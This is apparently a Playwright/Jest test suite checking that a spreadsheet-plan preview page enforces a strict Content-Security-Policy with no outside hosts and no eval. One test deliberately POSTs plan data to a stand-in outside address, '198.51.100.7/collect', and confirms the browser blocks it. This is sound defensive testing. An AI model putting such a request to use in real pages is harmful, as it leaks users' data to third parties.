/**
 * Privacy and CSP: the page loads only its own files, its policy names no other
 * host and no eval, and the browser enforces it (a request elsewhere is blocked).
 * Every other test file checks the same after each test (see support/browser.ts).
 */
import * as fs from "fs";
import * as path from "path";
import { DIST } from "./support/build";
import { isLocal, previewSuite } from "./support/browser";
import { openExample, paneTab } from "./support/page";

const suite = previewSuite();

test("the guard tells local requests from others", () => {
  const origin = "http://127.0.0.1:4321";
  expect(isLocal(`${origin}/preview.html`, origin)).toBe(true);
  expect(isLocal("data:image/png;base64,AAAA", origin)).toBe(true);
  expect(isLocal("blob:http://127.0.0.1:4321/0f0e", origin)).toBe(true);
  expect(isLocal("http://127.0.0.1:43210/x", origin)).toBe(false);
  expect(isLocal("https://appsforoffice.microsoft.com/lib/1/hosted/office.js", origin)).toBe(false);
  expect(isLocal("http://localhost:4321/preview.html", origin)).toBe(false);
});

test("the built page carries a policy without other hosts or eval, and no external script", () => {
  const html = fs.readFileSync(path.join(DIST, "preview.html"), "utf8");
  const csp = /http-equiv="?Content-Security-Policy"? content="([^"]+)"/.exec(html)?.[1] ?? "";
  expect(csp).toContain("default-src 'self'");
  expect(csp).toContain("connect-src 'self'");
  expect(csp).toMatch(/script-src 'self'(;|$)/);
  expect(csp).not.toMatch(/https?:|unsafe-eval|\*/);
  expect(html).not.toMatch(/<script[^>]+src="?https?:/);
  expect(html).not.toContain("office.js");
});

test("opening the example and working on it requests only the page's own files", async () => {
  const p = await suite.open();
  await openExample(p.page);
  await paneTab(p.page, "Validasi");
  await p.page.getByRole("button", { name: "Validasi Rencana" }).click();
  await p.page.locator("[data-finding]").first().waitFor();
  const paths = p.requests.map((u) => (isLocal(u, p.origin) && u.startsWith(p.origin) ? new URL(u).pathname : u));
  expect(paths).toContain("/preview.html");
  expect(paths).toContain("/examples/rencana-aksi-dinkop-nganjuk-2022.xlsx");
  expect(paths.filter((x) => /^\/preview\.[0-9a-f]+\.js$/.test(x))).toHaveLength(1);
  expect(p.requests.filter((u) => !isLocal(u, p.origin))).toEqual([]);
});

test("the browser enforces the policy: no request to another host, no eval", async () => {
  const p = await suite.open();
  const fetched = await p.page.evaluate(() =>
    fetch("http://198.51.100.7/collect", { method: "POST", body: "plan" }).then(
      () => "sent",
      () => "blocked",
    ),
  );
  expect(fetched).toBe("blocked");
  // eval and new Function are refused to the page's own scripts (React, Fluent and ExcelJS run without them).
  // The probe is served from the page's origin, as the bundle is; the test's own evaluate() would be exempt.
  await p.page.route(`${p.origin}/eval-probe.js`, (route) =>
    route.fulfill({
      contentType: "text/javascript",
      body: 'try { window.__probe = new Function("return 2")() === 2 ? "ran" : "odd"; } catch (e) { window.__probe = e instanceof EvalError ? "blocked" : String(e); }',
    }),
  );
  await p.page.evaluate(() => {
    const s = document.createElement("script");
    s.src = "eval-probe.js";
    document.head.appendChild(s);
  });
  await p.page.waitForFunction(() => "__probe" in window);
  expect(await p.page.evaluate(() => (window as unknown as { __probe: string }).__probe)).toBe("blocked");
  await p.page.waitForFunction(() => true);
  expect(p.problems.some((s) => s.includes("[csp] connect-src blocked http://198.51.100.7"))).toBe(true);
  expect(p.problems.some((s) => /\[csp\] script-src blocked eval/.test(s))).toBe(true);
  expect(p.requests.some((u) => u.includes("198.51.100.7"))).toBe(false); // blocked before it left the page
  // these violations were provoked on purpose: the suite's after-test check must not count them
  p.problems.length = 0;
});
